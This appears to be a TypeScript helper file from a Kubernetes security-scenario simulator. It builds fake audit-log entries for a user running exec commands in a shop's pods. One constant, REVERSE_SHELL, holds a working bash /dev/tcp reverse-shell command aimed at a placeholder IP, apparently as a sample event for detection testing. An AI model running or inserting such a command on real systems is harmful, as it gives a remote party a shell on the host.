import type { KubeObject } from '../../shared/kubernetes/object.ts';
import { clusterName } from '../../shared/model/target.ts';
import { timeOf } from '../../shared/model/time.ts';
import { SHOP } from '../world/seed.ts';
import type { World } from '../world/world.ts';
import { auditEntry } from './audit-entry.ts';
import type { ScenarioEvent } from './scenario.ts';

/** The shop's first pod in this namespace with this label. Its name and its node are chosen by the world. */
export const podOf = (world: World, namespace: string, [key, value]: readonly [string, string]): KubeObject => {
  const pods = world.clusters.get(clusterName(SHOP))?.list('v1', 'Pod', namespace) ?? [];
  const found = pods.find((pod) => pod.metadata.labels?.[key] === value);
  if (found === undefined) throw new Error(`the world has no pod of ${namespace}/${value}: seed it with seedShop`);
  return found;
};

/** A command that gives a shell to somebody elsewhere, as the log writes it: its words joined, without quotes. */
export const REVERSE_SHELL = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';

/** The audit log's message about a command that ana@example.com runs in the shop's first pod of this app. */
export const execEvent = (
  world: World,
  now: number,
  exec: { namespace: string; app: string; command: string },
): ScenarioEvent => ({
  afterMs: 0,
  topic: 'audit-log',
  body: auditEntry({
    ...SHOP,
    at: timeOf(now),
    verb: 'create',
    resource: 'pods',
    subresource: 'exec',
    namespace: exec.namespace,
    name: podOf(world, exec.namespace, ['app', exec.app]).metadata.name,
    command: exec.command,
  }),
});
